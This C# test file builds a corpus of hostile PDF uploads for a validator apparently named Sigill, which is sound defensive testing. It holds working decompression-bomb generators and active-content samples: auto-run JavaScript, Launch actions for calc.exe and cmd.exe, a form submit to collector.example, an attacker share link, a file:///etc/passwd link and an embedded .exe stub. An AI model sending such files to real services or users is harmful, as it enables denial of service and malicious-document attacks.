using System.Collections.Concurrent;
using System.Globalization;
using System.Text;

namespace Sigill.Hostile;

/// <summary>
/// Hostile PDF uploads, each with the answer Sigill must give at default limits (docs/pdf-policy.md):
/// decompression bombs of every kind (<c>pdf_too_complex</c>), active content of every kind
/// (<c>pdf_active_content</c>), malformed structures that once crashed the reader (<c>pdf_malformed</c>),
/// and impossible page data. Bombs are made small: a gigabyte of zeros compresses to about a megabyte.
/// </summary>
public static partial class HostileCorpus
{
    private const int BadRequest = 400;
    private const string TooComplex = "pdf_too_complex";
    private const string Active = "pdf_active_content";
    private const string Malformed = "pdf_malformed";
    private const long MiB = 1024 * 1024;

    /// <summary>Decompression bombs, active content, malformed structures and impossible page data.</summary>
    public static IEnumerable<HostileCase> Pdfs() => PdfBombs().Concat(PdfActiveContent()).Concat(PdfMalformed()).Concat(PdfImpossiblePages());

    public static IEnumerable<HostileCase> PdfBombs() =>
    [
        Pdf("bomb: eight object streams of 250 MB each (2 MB file)", TooComplex, () => ObjectStreamBomb(8, 250_000_000)),
        Pdf("bomb: twelve object streams of 7 MiB each, under the held-stream cap", TooComplex, () => ObjectStreamBomb(12, 7 * MiB)),
        Pdf("bomb: one page content stream of 1 GiB", TooComplex, () => Doc(contents: Stream("/Filter/FlateDecode", PdfBytes.DeflateZeros(1024 * MiB)))),
        Pdf("bomb: Flate inside Flate", TooComplex, () => Doc(contents: Stream("/Filter[/FlateDecode/FlateDecode]", PdfBytes.Deflate(PdfBytes.DeflateZeros(1024 * MiB))))),
        Pdf("bomb: RunLength inside Flate", TooComplex, () => Doc(contents: Stream("/Filter[/FlateDecode/RunLengthDecode]", RunLengthInsideFlate(4 * MiB)))),
        Pdf("bomb: LZW", TooComplex, () => Doc(contents: Stream("/Filter/LZWDecode", LzwZeros(256 * MiB)))),
        Pdf("bomb: thirty streams of 30 MiB in a 1 MB file (ratio)", TooComplex, () => ManyStreams(30, 30 * MiB, padding: 0)),
        Pdf("bomb: twenty streams of 60 MiB in a 12 MB file (total)", TooComplex, () => ManyStreams(20, 60 * MiB, padding: 12 * MiB)),
        Pdf("bomb: seventeen LZW streams of 63 MiB in an 11 MB file (total)", TooComplex, () => ManyStreams(17, 63 * MiB, padding: 11 * MiB, lzw: true)),
        Pdf("bomb: a 256 MiB stream the cross-reference does not list", TooComplex, () => Doc(orphan: p => p.Stream("/Filter/FlateDecode", PdfBytes.DeflateZeros(256 * MiB), listed: false))),
        Pdf("bomb: a JPEG declaring 65535 x 65535 pixels", TooComplex, () => Doc(
            pageExtra: "/Resources<</XObject<</Im0 5 0 R>>>>",
            more: p => p.Stream("/Type/XObject/Subtype/Image/Width 16/Height 16/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode", JpegHeader(65535, 65535), 5))),
        Pdf("bomb: five filters on one stream", TooComplex, () => Doc(contents: Stream("/Filter[/ASCIIHexDecode/ASCIIHexDecode/ASCIIHexDecode/ASCIIHexDecode/ASCIIHexDecode]", "00>"u8.ToArray()))),
        Pdf("bomb: one object holding 600 000 values", TooComplex, () => Doc(objectStream: [(5, "[" + Repeat("0 ", 600_000) + "]")])),
        Pdf("bomb: object streams holding 9 million values", TooComplex, () => Doc(more: p =>
        {
            var values = "[" + Repeat("0 ", 450_000) + "]";
            for (var n = 10; n < 30; n++) p.ObjectStream([(n, values)]);
        })),
        Pdf("bomb: a cross-reference stream of two million objects", TooComplex, () =>
            XrefStream("/W[1 1 0]/Size 2000000/Filter/FlateDecode", PdfBytes.DeflateZeros(4_000_000))),
        Pdf("bomb: 200 000 overlapping object headers", TooComplex, () => Doc(prefix: Repeat("1 0 obj (", 200_000))),
        Pdf("bomb: 60 000 tiny streams", TooComplex, () => Doc(orphan: p =>
        {
            var tiny = PdfBytes.Deflate(new byte[16]);
            for (var n = 100; n < 60_100; n++) p.Stream("/Filter/FlateDecode", tiny, n, listed: false);
        })),
        Pdf("malformed: 2000 object headers that do not read as objects", Malformed, () => Doc(orphan: p =>
        {
            for (var n = 100; n < 2100; n++) p.Raw(string.Create(CultureInfo.InvariantCulture, $"{n} 0 obj )\n"));
        })),
    ];

    public static IEnumerable<HostileCase> PdfActiveContent() =>
    [
        Pdf("active: JavaScript run on opening", Active, () => Doc(catalogExtra: "/OpenAction 5 0 R", more: p => p.Object("<</S/JavaScript/JS(app.alert\\(1\\))>>", 5))),
        Pdf("active: document JavaScript in the names tree", Active, () => Doc(catalogExtra: "/Names<</JavaScript 5 0 R>>", more: p =>
        {
            p.Object("<</Names[(a) 6 0 R]>>", 5);
            p.Object("<</S/JavaScript/JS(1)>>", 6);
        })),
        Pdf("active: additional actions on a page", Active, () => Doc(pageExtra: "/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>")),
        Pdf("active: JavaScript in a listed object stream", Active, () => Doc(catalogExtra: "/OpenAction 5 0 R", objectStream: [(5, "<</S/JavaScript/JS(app.alert\\(1\\))>>")])),
        Pdf("active: JavaScript in an object stream the cross-reference does not list", Active, () => Doc(orphan: p =>
            p.ObjectStream([(9, "<</S/JavaScript/JS(app.alert\\(1\\))>>")], listed: false))),
        Pdf("active: JavaScript in an uncompressed object the cross-reference does not list", Active, () => Doc(orphan: p =>
            p.Object("<</S/JavaScript/JS(app.alert\\(1\\))>>", 9, listed: false))),
        Pdf("active: JavaScript behind a hex-escaped name", Active, () => Doc(more: p => p.Object("<</Type/Action/J#53(app.alert\\(1\\))>>", 5))),
        Pdf("active: JavaScript in an earlier revision", Active, () => EarlierRevisionWithJavaScript()),
        Pdf("active: JavaScript in bytes outside any object", Active, () => Doc(orphan: p => p.Raw("garbage <</S/Java#53cript/JS(app.alert(1)) \n"))),
        Pdf("active: a Launch action on a link", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/Launch/F(calc.exe)>>>>")),
        Pdf("active: a SubmitForm action on a button", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 100 100]/A<</S/SubmitForm/F<</FS/URL/F(https://collector.example/)>>>>>>")),
        Pdf("active: an ImportData action", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/ImportData/F(data.fdf)>>>>")),
        Pdf("active: a GoToR action", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/GoToR/F(\\\\\\\\attacker\\\\share\\\\x.pdf)/D[0/Fit]>>>>")),
        Pdf("active: a GoToE action", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>>>")),
        Pdf("active: an action of a type the standard does not name", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A 9 0 R>>",
            more: p => p.Object("<</S/SigillRunProgram/F(x)>>", 9))),
        Pdf("active: a Named action", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/Named/N/Print>>>>")),
        Pdf("active: a Launch action chained behind a URI link", Active, () => Doc(
            annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(https://example.com/)/Next 9 0 R>>>>",
            more: p => p.Object("<</S/Launch/F(cmd.exe)>>", 9))),
        Pdf("active: a javascript: link", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(javascript:app.alert\\(1\\))>>>>")),
        Pdf("active: a file: link", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(file:///etc/passwd)>>>>")),
        Pdf("active: a link opened automatically", Active, () => Doc(catalogExtra: "/OpenAction<</S/URI/URI(https://tracker.example/open)>>")),
        Pdf("active: an embedded .exe in the names tree", Active, () => Doc(catalogExtra: "/Names<</EmbeddedFiles 5 0 R>>", more: p =>
        {
            p.Object("<</Names[(invoice.exe) 6 0 R]>>", 5);
            p.Object("<</Type/Filespec/F(invoice.exe)/EF<</F 7 0 R>>>>", 6);
            p.Stream("/Type/EmbeddedFile", "MZ\u0090\0\u0003"u8.ToArray(), 7);
        })),
        Pdf("active: a file attachment annotation", Active, () => Doc(annotation: "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 9 0 R>>",
            more: p => p.Object("<</Type/Filespec/F(a.txt)>>", 9))),
        Pdf("active: an embedded file stream no one points to", Active, () => Doc(orphan: p => p.Stream("/Type/EmbeddedFile", "MZ"u8.ToArray(), 9, listed: false))),
        Pdf("active: an XFA form", Active, () => Doc(catalogExtra: "/AcroForm<</Fields[]/XFA 5 0 R>>", more: p => p.Stream("", "<xdp:xdp/>"u8.ToArray(), 5))),
        Pdf("active: a rich media annotation", Active, () => Doc(annotation: "<</Type/Annot/Subtype/RichMedia/Rect[0 0 100 100]>>")),
        Pdf("active: a 3D annotation", Active, () => Doc(annotation: "<</Type/Annot/Subtype/3D/Rect[0 0 100 100]>>")),
        Pdf("active: a sound annotation", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Sound/Rect[0 0 100 100]>>")),
        Pdf("active: a movie annotation", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Movie/Rect[0 0 100 100]>>")),
        Pdf("active: a screen annotation with a rendition", Active, () => Doc(annotation: "<</Type/Annot/Subtype/Screen/Rect[0 0 100 100]/A<</S/Rendition/OP 0>>>>")),
        Pdf("active: a PostScript XObject", Active, () => Doc(pageExtra: "/Resources<</XObject<</P0 5 0 R>>>>", more: p => p.Stream("/Type/XObject/Subtype/PS", "showpage"u8.ToArray(), 5))),
    ];

    public static IEnumerable<HostileCase> PdfMalformed() =>
    [
        Pdf("malformed: an object stream header that is not numbers", Malformed, () => RawObjectStream("/N 1/First 4", "x y <</A 1>>")),
        Pdf("malformed: an object stream with a negative /First", Malformed, () => RawObjectStream("/N 1/First -5", "5 0 <</A 1>>")),
        Pdf("malformed: an object stream with /First beyond its data", Malformed, () => RawObjectStream("/N 1/First 99999", "5 0 <</A 1>>")),
        Pdf("malformed: an object stream with /N 2147483647", Malformed, () => RawObjectStream("/N 2147483647/First 4", "5 0 <</A 1>>")),
        Pdf("malformed: an object stream with a negative /N", Malformed, () => RawObjectStream("/N -1/First 4", "5 0 <</A 1>>")),
        Pdf("malformed: an object stream whose objects overlap", Malformed, () => RawObjectStream("/N 2/First 8", "5 0 6 0 <</A 1>>")),
        Pdf("malformed: an object stream inside an object stream", Malformed, () =>
        {
            var p = Base();
            p.Object("<</Type/Catalog/Pages 2 0 R/Extra 7 0 R>>", 1);
            var os = p.ObjectStream([(6, "<</A 1>>")], listed: false);
            p.Compressed(os, 8, 0);
            p.Compressed(7, os, 0);
            return p.Finish(1);
        }),
        Pdf("malformed: a predictor with /Columns 2147483647", Malformed, () =>
            XrefStream("/W[1 4 2]/Size 1/DecodeParms<</Predictor 12/Columns 2147483647>>/Filter/FlateDecode", PdfBytes.Deflate(new byte[64]))),
        Pdf("malformed: cross-reference /W widths beyond 8 bytes", Malformed, () => XrefStream("/W[1 2147483648 1]/Size 1", new byte[8])),
        Pdf("malformed: cross-reference /W of zero bytes with two billion entries", Malformed, () => XrefStream("/W[0 0 0]/Index[0 2147483647]/Size 1", new byte[8])),
        Pdf("malformed: cross-reference /Index beyond its data", Malformed, () => XrefStream("/W[1 4 2]/Index[0 1000]/Size 1000", new byte[14])),
        Pdf("malformed: cross-reference /Index with a negative count", Malformed, () => XrefStream("/W[1 4 2]/Index[0 -5]/Size 1", new byte[14])),
        Pdf("malformed: a /Prev chain that loops", Malformed, () => LoopingPrev()),
        Pdf("malformed: an object offset beyond the file", Malformed, () => WithXrefOffset(3, 99_999_999_999)),
        Pdf("malformed: startxref beyond any number", Malformed, () => Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Doc()).Replace("startxref\n", "startxref\n99999999999999999999", StringComparison.Ordinal))),
        Pdf("malformed: a cross-reference subsection past the last object number", Malformed, () => Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Doc()).Replace("xref\n0 ", "xref\n2147483646 ", StringComparison.Ordinal))),
        Pdf("malformed: arrays nested 100 000 deep", Malformed, () => Doc(pageExtra: "/Deep " + Repeat("[", 100_000) + Repeat("]", 100_000))),
        Pdf("malformed: a name of 100 000 bytes", Malformed, () => Doc(pageExtra: "/" + Repeat("N", 100_000) + " 1")),
        Pdf("malformed: two streams whose /Length point at each other", Malformed, () => Doc(pageExtra: "/Thumb 5 0 R", more: p =>
        {
            p.Listed(5, p.Position);
            p.Raw("5 0 obj\n<</Length 6 0 R>>\nstream\nq Q\nendstream\nendobj\n");
            p.Listed(6, p.Position);
            p.Raw("6 0 obj\n<</Length 5 0 R>>\nstream\n1\nendstream\nendobj\n");
        })),
        Pdf("malformed: an unsupported filter", Malformed, () => Doc(contents: Stream("/Filter/SigillDecode", "q Q"u8.ToArray()))),
        Pdf("malformed: a page tree that contains itself", Malformed, () => Doc(pagesKids: "[3 0 R 2 0 R]")),
        Pdf("malformed: a page whose /Parent is itself", Malformed, () => Doc(pageParent: "3 0 R")),
        Pdf("malformed: a page listed twice", Malformed, () => Doc(pagesKids: "[3 0 R 3 0 R]", count: 2)),
        Pdf("encrypted: a stream behind a /Crypt filter", "pdf_encrypted", () => Doc(contents: Stream("/Filter/Crypt", "q Q"u8.ToArray()))),
    ];

    public static IEnumerable<HostileCase> PdfImpossiblePages() =>
    [
        Pdf("page: a MediaBox of zero size", Malformed, () => Doc(mediaBox: "[0 0 0 0]")),
        Pdf("page: a negative MediaBox", Malformed, () => Doc(mediaBox: "[0 0 -612 -792]")),
        Pdf("page: a MediaBox 10^20 points wide", Malformed, () => Doc(mediaBox: "[0 0 100000000000000000000 792]")),
        Pdf("page: a MediaBox of three numbers", Malformed, () => Doc(mediaBox: "[0 0 612]")),
        Pdf("page: a MediaBox of names", Malformed, () => Doc(mediaBox: "[/a /b /c /d]")),
        Pdf("page: a CropBox of zero size", Malformed, () => Doc(pageExtra: "/CropBox[0 0 0 0]")),
        Pdf("page: a CropBox outside the MediaBox", Malformed, () => Doc(pageExtra: "/CropBox[1000 1000 1612 1792]")),
        Pdf("page: /Count 2147483647 for one page", Malformed, () => Doc(count: 2147483647)),
        Pdf("page: a /Count that disagrees with the tree", Malformed, () => Doc(count: 2)),
        Pdf("page: /Rotate 45", Malformed, () => Doc(pageExtra: "/Rotate 45")),
        Pdf("page: no pages", Malformed, () => Doc(pagesKids: "[]", count: 0)),
        new("page: 2001 pages, one more than allowed", HostileTarget.PdfUpload, 413, "pdf_too_large", Memo("pages-2001", () => ManyPages(2001))),
    ];

    // --- building blocks -----------------------------------------------------------------------------

    private static readonly ConcurrentDictionary<string, byte[]> Made = new(StringComparer.Ordinal);

    private static HostileCase Pdf(string name, string code, Func<byte[]> make) =>
        new(name, HostileTarget.PdfUpload, BadRequest, code, Memo(name, make));

    /// <summary>Each payload is made once per process: some take a fraction of a second to compress.</summary>
    private static Func<byte[]> Memo(string key, Func<byte[]> make) => () => Made.GetOrAdd(key, _ => make());

    private static PdfBytes Base() => new();

    private static (string Dict, byte[] Data) Stream(string dict, byte[] data) => (dict, data);

    /// <summary>
    /// One page (objects 1 catalog, 2 page tree, 3 page, 4 content) with whatever a case changes; more
    /// objects from 5 on. <paramref name="orphan"/> writes bytes the cross-reference does not list.
    /// </summary>
    private static byte[] Doc(
        string catalogExtra = "", string pageExtra = "", string mediaBox = "[0 0 612 792]", string pagesKids = "[3 0 R]",
        long count = 1, string pageParent = "2 0 R", (string Dict, byte[] Data)? contents = null, string? annotation = null,
        Action<PdfBytes>? more = null, Action<PdfBytes>? orphan = null, IReadOnlyList<(int, string)>? objectStream = null,
        string? prefix = null)
    {
        var p = Base();
        if (prefix is not null) p.Raw(prefix + "\n");
        p.Object($"<</Type/Catalog/Pages 2 0 R{catalogExtra}>>", 1);
        p.Object(string.Create(CultureInfo.InvariantCulture, $"<</Type/Pages/Kids{pagesKids}/Count {count}>>"), 2);
        var annots = annotation is null ? "" : "/Annots[8 0 R]";
        p.Object($"<</Type/Page/Parent {pageParent}/MediaBox{mediaBox}/Contents 4 0 R{annots}{pageExtra}>>", 3);
        var (dict, data) = contents ?? ("", "q Q"u8.ToArray());
        p.Stream(dict, data, 4);
        if (annotation is not null) p.Object(annotation, 8);
        more?.Invoke(p);
        if (objectStream is not null) p.ObjectStream(objectStream);
        orphan?.Invoke(p);
        return p.Finish(1);
    }

    /// <summary>Object streams of <paramref name="size"/> bytes each (one small object, then zeros), all listed.</summary>
    private static byte[] ObjectStreamBomb(int streams, long size)
    {
        var p = Base();
        p.Object("<</Type/Catalog/Pages 2 0 R>>", 1);
        p.Object("<</Type/Pages/Kids[3 0 R]/Count 1>>", 2);
        p.Object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", 3);
        for (var i = 0; i < streams; i++)
        {
            var number = 100 + i;
            var pairs = string.Create(CultureInfo.InvariantCulture, $"{number} 0 ");
            var header = Encoding.Latin1.GetBytes(string.Create(CultureInfo.InvariantCulture, $"{pairs}<</I {i}>>"));
            var os = p.Stream(string.Create(CultureInfo.InvariantCulture, $"/Type/ObjStm/N 1/First {pairs.Length}/Filter/FlateDecode"),
                PdfBytes.DeflateZeros(size - header.Length, header));
            p.Compressed(number, os, 0);
        }
        return p.Finish(1);
    }

    /// <summary>A page whose content is <paramref name="count"/> streams of <paramref name="size"/> zero bytes, after <paramref name="padding"/> bytes of incompressible image data.</summary>
    private static byte[] ManyStreams(int count, long size, long padding, bool lzw = false)
    {
        var p = Base();
        p.Object("<</Type/Catalog/Pages 2 0 R>>", 1);
        p.Object("<</Type/Pages/Kids[3 0 R]/Count 1>>", 2);
        var refs = string.Join(" ", Enumerable.Range(10, count).Select(n => $"{n} 0 R"));
        p.Object($"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents[{refs}]/Resources<</XObject<</Im0 4 0 R>>>>>>", 3);
        var noise = new byte[padding];
#pragma warning disable CA5394, SCS0005 // seeded noise that does not compress; nothing secret is drawn
        new Random(14).NextBytes(noise);
#pragma warning restore CA5394, SCS0005
        p.Stream(string.Create(CultureInfo.InvariantCulture, $"/Type/XObject/Subtype/Image/Width {Math.Max(1, padding / 3)}/Height 1/ColorSpace/DeviceRGB/BitsPerComponent 8"), noise, 4);
        var zeros = lzw ? LzwZeros(size) : PdfBytes.DeflateZeros(size);
        for (var i = 0; i < count; i++) p.Stream(lzw ? "/Filter/LZWDecode" : "/Filter/FlateDecode", zeros, 10 + i);
        return p.Finish(1);
    }

    /// <summary>Flate of RunLength runs: each pair of bytes repeats a zero 128 times, and Flate packs the pairs 1000:1.</summary>
    private static byte[] RunLengthInsideFlate(long pairs)
    {
        var runs = new byte[pairs * 2];
        for (var i = 0; i < runs.Length; i += 2) runs[i] = 129;
        return PdfBytes.Deflate(runs);
    }

    /// <summary>
    /// LZW codes for <paramref name="bytes"/> zero bytes: codes 258, 259, … each add one more zero to the
    /// table until it is full, then code 4095 (3,839 zeros) repeats in 12 bits: about 2,500:1.
    /// </summary>
    private static byte[] LzwZeros(long bytes)
    {
        var bits = new BitWriter();
        var width = 9;
        var next = 258;
        var hasPrevious = false;
        void Emit(int code)
        {
            bits.Write(code, width);
            if (hasPrevious && next < 4096)
            {
                next++;
                if (next + 1 >= 1 << width && width < 12) width++;
            }
            hasPrevious = true;
        }
        bits.Write(256, 9);
        Emit(0);
        long produced = 1;
        for (var code = 258; code < 4096 && produced < bytes; code++)
        {
            Emit(code);
            produced += code - 256;
        }
        while (produced < bytes)
        {
            Emit(4095);
            produced += 3839;
        }
        bits.Write(257, width);
        return bits.ToArray();
    }

    private sealed class BitWriter
    {
        private readonly MemoryStream _out = new();
        private ulong _bits;
        private int _count;

        public void Write(int code, int width)
        {
            _bits = (_bits << width) | (uint)code;
            _count += width;
            while (_count >= 8)
            {
                _count -= 8;
                _out.WriteByte((byte)(_bits >> _count));
            }
        }

        public byte[] ToArray()
        {
            if (_count > 0) _out.WriteByte((byte)(_bits << (8 - _count)));
            _count = 0;
            return _out.ToArray();
        }
    }

    /// <summary>A JPEG that is only a frame header (SOI, SOF0 for three 8-bit components, EOI).</summary>
    private static byte[] JpegHeader(int width, int height) =>
    [
        0xFF, 0xD8, 0xFF, 0xC0, 0x00, 0x11, 0x08, (byte)(height >> 8), (byte)height, (byte)(width >> 8), (byte)width, 0x03,
        0x01, 0x11, 0x00, 0x02, 0x11, 0x00, 0x03, 0x11, 0x00, 0xFF, 0xD9,
    ];

    /// <summary>A listed object stream (object 5, pointed to by the catalog) with a dictionary and data of one's choosing.</summary>
    private static byte[] RawObjectStream(string dict, string data)
    {
        var p = Base();
        p.Object("<</Type/Catalog/Pages 2 0 R/Extra 5 0 R>>", 1);
        p.Object("<</Type/Pages/Kids[3 0 R]/Count 1>>", 2);
        p.Object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", 3);
        var os = p.Stream("/Type/ObjStm" + dict + "/Filter/FlateDecode", PdfBytes.Deflate(Encoding.Latin1.GetBytes(data)), 9);
        p.Compressed(5, os, 0);
        return p.Finish(1);
    }

    /// <summary>A file whose only cross-reference section is a stream with the given dictionary entries and rows.</summary>
    private static byte[] XrefStream(string dict, byte[] rows)
    {
        var p = Base();
        p.Object("<</Type/Catalog/Pages 2 0 R>>", 1);
        p.Object("<</Type/Pages/Kids[3 0 R]/Count 1>>", 2);
        p.Object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", 3);
        var at = p.Position;
        p.Stream("/Type/XRef/Root 1 0 R" + dict, rows, 4, listed: false);
        p.Raw(string.Create(CultureInfo.InvariantCulture, $"startxref\n{at}\n%%EOF\n"));
        return p.ToArray();
    }

    private static byte[] LoopingPrev()
    {
        var text = Encoding.Latin1.GetString(Doc());
        var xref = text.LastIndexOf("\nxref\n", StringComparison.Ordinal) + 1;
        return Encoding.Latin1.GetBytes(text.Replace("/Root 1 0 R>>", string.Create(CultureInfo.InvariantCulture, $"/Root 1 0 R/Prev {xref}>>"), StringComparison.Ordinal));
    }

    private static byte[] WithXrefOffset(int number, long offset)
    {
        var p = Base();
        p.Object("<</Type/Catalog/Pages 2 0 R>>", 1);
        p.Object("<</Type/Pages/Kids[3 0 R]/Count 1>>", 2);
        p.Object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", 3);
        p.Listed(number, offset);
        return p.Finish(1);
    }

    /// <summary>Revision 1 opens with JavaScript; revision 2 replaces the catalog without it, but the script stays in the file.</summary>
    private static byte[] EarlierRevisionWithJavaScript()
    {
        var first = Doc(catalogExtra: "/OpenAction 5 0 R", more: p => p.Object("<</S/JavaScript/JS(app.alert\\(1\\))>>", 5));
        var text = Encoding.Latin1.GetString(first);
        var previous = text[(text.LastIndexOf("startxref\n", StringComparison.Ordinal) + 10)..].Split('\n')[0];
        var catalogAt = first.Length;
        var update = new StringBuilder("1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n");
        var xrefAt = catalogAt + update.Length;
        update.Append(CultureInfo.InvariantCulture, $"xref\n1 1\n{catalogAt:D10} 00000 n \ntrailer\n<</Size 6/Root 1 0 R/Prev {previous}>>\nstartxref\n{xrefAt}\n%%EOF\n");
        return [.. first, .. Encoding.Latin1.GetBytes(update.ToString())];
    }

    private static byte[] ManyPages(int pages)
    {
        var p = Base();
        p.Object("<</Type/Catalog/Pages 2 0 R>>", 1);
        var kids = string.Join(" ", Enumerable.Range(10, pages).Select(n => $"{n} 0 R"));
        p.Object(string.Create(CultureInfo.InvariantCulture, $"<</Type/Pages/Kids[{kids}]/Count {pages}>>"), 2);
        for (var i = 0; i < pages; i++) p.Object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", 10 + i);
        return p.Finish(1);
    }
}
